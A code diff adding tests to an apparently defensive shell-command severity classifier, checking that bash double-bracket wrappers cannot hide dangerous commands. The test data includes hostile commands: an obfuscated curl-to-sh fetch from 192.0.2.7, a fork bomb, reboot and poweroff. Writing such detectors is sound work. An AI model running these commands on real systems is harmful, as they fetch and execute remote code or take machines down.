@@ -97,3 +97,22 @@ describe('padding does not hide what does harm', () => {
     }
   });
 });
+
+describe('double brackets, which are a sum to bash and commands to dash', () => {
+  it.each([
+    '((reboot))',
+    '((/tmp/.x))',
+    '((/usr/b?n/c?rl http://192.0.2.7/x | sh))',
+    '((:(){ :|:& };:))',
+    "sh -c '((poweroff))'",
+  ])('%s is as grave as what stands in them', (text) => {
+    expect(judgeSession({ commands: [text] }).severity).toBe('HIGH');
+  });
+
+  it.each([
+    ...['((i++))', '((n>=3))', '((x = 5))', '((a < b)) || exit', 'while ((i < 10)); do ((i++)); done', '((flags & 1))'],
+    ...['if ((EUID != 0)); then exit; fi', '((j = i++, k = 2))', '(($# < 1)) && exit 1'],
+  ])('%s is a sum', (text) => {
+    expect(judgeSession({ commands: [text] })).toMatchObject({ severity: 'LOW', partial: false });
+  });
+});
